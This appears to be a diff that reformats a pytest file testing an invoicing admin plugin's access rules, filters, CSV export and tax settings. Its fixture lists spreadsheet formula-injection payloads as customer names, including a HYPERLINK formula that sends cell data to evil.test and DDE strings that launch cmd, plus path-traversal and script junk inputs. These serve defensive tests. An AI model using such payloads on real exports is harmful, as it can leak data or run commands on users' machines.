@@ -15,12 +15,19 @@ from kernel import clock
 from kernel.accounts.services import create_user
 from kernel.extensions import db
 from kernel.models import AuditLog
-from tests.invoices.conftest import customer, refund_payment, topup
 from kernel.testing import login
+from tests.invoices.conftest import customer, refund_payment, topup
 
 PASSWORD = "customer-password-1"
-INJECTIONS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
-              "@SUM(1+1)", "\t=1+1", " =1+1", "=cmd|' /C notepad'!'A1'"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    " =1+1",
+    "=cmd|' /C notepad'!'A1'",
+]
 
 
 @pytest.fixture
@@ -37,12 +44,21 @@ def month(shop):
     customers with names made to attack spreadsheets; one invoice in April."""
     with shop.test_request_context():
         refund_payment(topup(customer("camille@example.fr", country="FR"), 1200), 600)
-        topup(customer("achats@acme.fr", country="FR", company="ACME SARL",
-                       vat_id="FR40303265045"), 5000)
+        topup(
+            customer("achats@acme.fr", country="FR", company="ACME SARL", vat_id="FR40303265045"),
+            5000,
+        )
         topup(customer("sam@example.com", country="US", name="Sam Smith", city="Austin"), 2500)
         for index, name in enumerate(INJECTIONS):
-            topup(customer(f"evil{index}@example.fr", country="FR", name=name,
-                           company=name if index % 2 else ""), 100)
+            topup(
+                customer(
+                    f"evil{index}@example.fr",
+                    country="FR",
+                    name=name,
+                    company=name if index % 2 else "",
+                ),
+                100,
+            )
         clock.advance(timedelta(days=30))
         topup(customer("april@example.fr", country="FR"), 1000)
         clock.advance(timedelta(days=-30))
@@ -55,8 +71,13 @@ def test_customers_and_support_cannot_open_the_invoice_admin(shop, month):
         db.session.remove()
     customer_client = login(shop, "camille@example.fr", PASSWORD)
     helper = login(shop, "helper@blockhost.test", PASSWORD)
-    for path in ("/admin/invoices/", "/admin/invoices/1", "/admin/invoices/1/pdf",
-                 "/admin/invoices/export?month=2026-03", "/admin/invoices/settings/"):
+    for path in (
+        "/admin/invoices/",
+        "/admin/invoices/1",
+        "/admin/invoices/1/pdf",
+        "/admin/invoices/export?month=2026-03",
+        "/admin/invoices/settings/",
+    ):
         assert customer_client.get(path).status_code == 403
         assert helper.get(path).status_code == 403
     assert helper.post("/admin/invoices/settings/rates/eu").status_code == 403
@@ -69,12 +90,19 @@ def test_the_list_filters(admin, month):
     assert admin.get("/admin/invoices/?country=US").text.count("data-document=") == 1
     assert admin.get("/admin/invoices/?email=achats@acme.fr").text.count("data-document=") == 1
     assert admin.get("/admin/invoices/?month=2026-04").text.count("data-document=") == 1
-    assert admin.get("/admin/invoices/?start=2026-03-01&end=2026-03-31").text.count(
-        "data-document=") == 11
+    assert (
+        admin.get("/admin/invoices/?start=2026-03-01&end=2026-03-31").text.count("data-document=")
+        == 11
+    )
     only = admin.get("/admin/invoices/?number=CN-2026-000001")
     assert only.text.count("data-document=") == 1 and "CN-2026-000001" in only.text
-    for junk in ("?kind=<script>", "?country=ZZ", "?page=-5", "?page=999999999999",
-                 "?number=" + "9" * 500):
+    for junk in (
+        "?kind=<script>",
+        "?country=ZZ",
+        "?page=-5",
+        "?page=999999999999",
+        "?number=" + "9" * 500,
+    ):
         assert admin.get("/admin/invoices/" + junk).status_code == 200
     nul = admin.get("/admin/invoices/?email=%00")  # the request gate, for every query string
     assert nul.status_code == 400 and "“email” contains a control character" in nul.text
@@ -100,27 +128,46 @@ def read_csv(data: bytes) -> list[list[str]]:
 def test_the_months_csv_for_the_accountant(shop, admin, month):
     response = admin.get("/admin/invoices/export?month=2026-03&format=csv")
     assert response.status_code == 200
-    assert response.headers["Content-Disposition"] == \
-        'attachment; filename="invoices_2026-03-01_2026-03-31.csv"'
+    assert (
+        response.headers["Content-Disposition"]
+        == 'attachment; filename="invoices_2026-03-01_2026-03-31.csv"'
+    )
     header, *rows = read_csv(response.data)
-    assert header[:3] == ["number", "kind", "issued_at"] and header[-4:] == ["net", "tax",
-                                                                            "gross", "currency"]
+    assert header[:3] == ["number", "kind", "issued_at"] and header[-4:] == [
+        "net",
+        "tax",
+        "gross",
+        "currency",
+    ]
     by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
     assert len(rows) == 11 and "INV-2026-000011" not in str(rows)  # April's is not in March
     camille = by_number["INV-2026-000001"]
-    assert (camille["tax_rule"], camille["tax_country"], camille["rate_percent"], camille["net"],
-            camille["tax"], camille["gross"]) == ("eu-destination", "FR", "20.00", "10.00",
-                                                  "2.00", "12.00")
+    assert (
+        camille["tax_rule"],
+        camille["tax_country"],
+        camille["rate_percent"],
+        camille["net"],
+        camille["tax"],
+        camille["gross"],
+    ) == ("eu-destination", "FR", "20.00", "10.00", "2.00", "12.00")
     credit = by_number["CN-2026-000001"]
     assert (credit["credits"], credit["net"], credit["tax"], credit["gross"]) == (
-        "INV-2026-000001", "-5.00", "-1.00", "-6.00")
+        "INV-2026-000001",
+        "-5.00",
+        "-1.00",
+        "-6.00",
+    )
     acme = by_number["INV-2026-000002"]
-    assert (acme["buyer_vat_id"], acme["tax_rule"], acme["tax"]) == ("FR40303265045",
-                                                                    "reverse-charge", "0.00")
+    assert (acme["buyer_vat_id"], acme["tax_rule"], acme["tax"]) == (
+        "FR40303265045",
+        "reverse-charge",
+        "0.00",
+    )
     assert by_number["INV-2026-000003"]["tax_rule"] == "export"
     with shop.app_context():
-        assert db.session.scalar(db.select(AuditLog.details).where(
-            AuditLog.action == "invoices.exported")) == {"format": "csv", "documents": 11}
+        assert db.session.scalar(
+            db.select(AuditLog.details).where(AuditLog.action == "invoices.exported")
+        ) == {"format": "csv", "documents": 11}
 
 
 def test_no_cell_of_the_csv_runs_as_a_formula(admin, month):
@@ -152,11 +199,15 @@ def test_the_months_zip_holds_the_csv_and_every_pdf(admin, month):
 
 
 def test_a_bad_period_is_refused_with_the_reason(admin, month):
-    for query, message in [("month=march", "give a month"), ("month=2026-00", "give a month"),
-                           ("start=2026-03-31&end=2026-03-01", "ends before it starts"),
-                           ("start=2025-01-01&end=2026-03-01", "export at most 366 days"),
-                           ("", "give a month"), ("start=x&end=y", "give a month"),
-                           ("month=2026-03-01", "give a month")]:
+    for query, message in [
+        ("month=march", "give a month"),
+        ("month=2026-00", "give a month"),
+        ("start=2026-03-31&end=2026-03-01", "ends before it starts"),
+        ("start=2025-01-01&end=2026-03-01", "export at most 366 days"),
+        ("", "give a month"),
+        ("start=x&end=y", "give a month"),
+        ("month=2026-03-01", "give a month"),
+    ]:
         response = admin.get(f"/admin/invoices/export?{query}", follow_redirects=True)
         assert response.status_code == 200 and message in response.text, query
     nul = admin.get("/admin/invoices/export?month=%00")  # the request gate refuses it first
@@ -167,15 +218,26 @@ def test_a_bad_period_is_refused_with_the_reason(admin, month):
 
 
 def settings_form(**changes):
-    form = {"seller_name": "Blockhost GmbH", "seller_address": "Hauptstraße 5\n10115 Berlin",
-            "seller_country": "DE", "seller_vat_id": "DE136695976", "seller_tax_number": "",
-            "seller_email": "billing@blockhost.test", "seller_footer": "Bank",
-            "invoice_on": "topup", "prices": "gross", "eu_consumers": "destination",
-            "topup_tax_class": "standard", "invoice_format": "INV-{year}-{number:06}",
-            "credit_note_format": "CN-{year}-{number:06}",
-            "receipt_format": "RCT-{year}-{number:06}", "email_documents": "1",
-            "vies_url": "https://ec.europa.eu/taxation_customs/vies/rest-api",
-            "reverse_charge_note": "Reverse charge.", "export_note": "Export."}
+    form = {
+        "seller_name": "Blockhost GmbH",
+        "seller_address": "Hauptstraße 5\n10115 Berlin",
+        "seller_country": "DE",
+        "seller_vat_id": "DE136695976",
+        "seller_tax_number": "",
+        "seller_email": "billing@blockhost.test",
+        "seller_footer": "Bank",
+        "invoice_on": "topup",
+        "prices": "gross",
+        "eu_consumers": "destination",
+        "topup_tax_class": "standard",
+        "invoice_format": "INV-{year}-{number:06}",
+        "credit_note_format": "CN-{year}-{number:06}",
+        "receipt_format": "RCT-{year}-{number:06}",
+        "email_documents": "1",
+        "vies_url": "https://ec.europa.eu/taxation_customs/vies/rest-api",
+        "reverse_charge_note": "Reverse charge.",
+        "export_note": "Export.",
+    }
     form.update(changes)
     return {k: v for k, v in form.items() if v is not None}
 
@@ -192,8 +254,12 @@ def current(shop, key):
 def test_the_settings_page_saves_what_is_valid(shop, admin):
     page = admin.get("/admin/invoices/settings/")
     assert page.status_code == 200 and "Blockhost GmbH" in page.text
-    saved = admin.post("/admin/invoices/settings/", data=settings_form(
-        seller_name="Blockhost AG", invoice_format="R{year}{number:05}", email_documents=None))
+    saved = admin.post(
+        "/admin/invoices/settings/",
+        data=settings_form(
+            seller_name="Blockhost AG", invoice_format="R{year}{number:05}", email_documents=None
+        ),
+    )
     assert saved.status_code == 303
     assert current(shop, "seller_name") == "Blockhost AG"
     assert current(shop, "invoice_format") == "R{year}{number:05}"
@@ -225,10 +291,17 @@ def test_the_settings_page_refuses_what_is_not(shop, admin):
 def test_rates_and_product_classes_from_the_admin(shop, admin):
     from builtin_plugins.invoices.models import TaxRate
 
-    assert admin.post("/admin/invoices/settings/rates", data={
-        "country": "NL", "tax_class": "standard", "rate": "21", "label": "BTW"}).status_code == 303
-    refused = admin.post("/admin/invoices/settings/rates", data={
-        "country": "NL", "tax_class": "standard", "rate": "twenty", "label": ""})
+    assert (
+        admin.post(
+            "/admin/invoices/settings/rates",
+            data={"country": "NL", "tax_class": "standard", "rate": "21", "label": "BTW"},
+        ).status_code
+        == 303
+    )
+    refused = admin.post(
+        "/admin/invoices/settings/rates",
+        data={"country": "NL", "tax_class": "standard", "rate": "twenty", "label": ""},
+    )
     assert refused.status_code == 400 and "not a percentage" in refused.text
     assert admin.post("/admin/invoices/settings/rates/eu").status_code == 303
     with shop.app_context():
@@ -237,24 +310,54 @@ def test_rates_and_product_classes_from_the_admin(shop, admin):
         rate_id = rates[("FR", "reduced")].id
         from builtin_plugins.store.models import PricePlan, Product
 
-        product = Product(name="Big", slug="big", provisioner="manual", description="", images=[],
-                          resources={}, provisioner_settings={}, active=True, featured=False,
-                          priority=0)
-        product.plans.append(PricePlan(kind="fixed", label="", period_unit="days",
-                                       period_count=30, price=1000, min_slots=1, max_slots=1,
-                                       slot_variable=""))
+        product = Product(
+            name="Big",
+            slug="big",
+            provisioner="manual",
+            description="",
+            images=[],
+            resources={},
+            provisioner_settings={},
+            active=True,
+            featured=False,
+            priority=0,
+        )
+        product.plans.append(
+            PricePlan(
+                kind="fixed",
+                label="",
+                period_unit="days",
+                period_count=30,
+                price=1000,
+                min_slots=1,
+                max_slots=1,
+                slot_variable="",
+            )
+        )
         db.session.add(product)
         db.session.commit()
         product_id = product.id
         db.session.remove()
     assert admin.post(f"/admin/invoices/settings/rates/{rate_id}/delete").status_code == 303
     assert admin.post("/admin/invoices/settings/rates/99999/delete").status_code == 404
-    assert admin.post(f"/admin/invoices/settings/products/{product_id}",
-                      data={"tax_class": "reduced"}).status_code == 303
-    assert admin.post(f"/admin/invoices/settings/products/{product_id}",
-                      data={"tax_class": "../../etc"}).status_code == 400
-    assert admin.post("/admin/invoices/settings/products/99999",
-                      data={"tax_class": "reduced"}).status_code == 404
+    assert (
+        admin.post(
+            f"/admin/invoices/settings/products/{product_id}", data={"tax_class": "reduced"}
+        ).status_code
+        == 303
+    )
+    assert (
+        admin.post(
+            f"/admin/invoices/settings/products/{product_id}", data={"tax_class": "../../etc"}
+        ).status_code
+        == 400
+    )
+    assert (
+        admin.post(
+            "/admin/invoices/settings/products/99999", data={"tax_class": "reduced"}
+        ).status_code
+        == 404
+    )
     with shop.app_context():
         from builtin_plugins.invoices import taxes
 
@@ -270,8 +373,10 @@ def test_waiting_events_are_shown_and_retried_from_the_admin(shop, admin):
         db.session.remove()
     page = admin.get("/admin/invoices/settings/")
     assert "payment:1" in page.text and "no tax rate for Italy (IT)" in page.text
-    admin.post("/admin/invoices/settings/rates", data={"country": "IT", "rate": "22",
-                                                      "tax_class": "standard"})
+    admin.post(
+        "/admin/invoices/settings/rates",
+        data={"country": "IT", "rate": "22", "tax_class": "standard"},
+    )
     retried = admin.post("/admin/invoices/settings/retry", follow_redirects=True)
     assert "1 of 1 waiting documents issued." in retried.text
     assert "Nothing waits." in retried.text
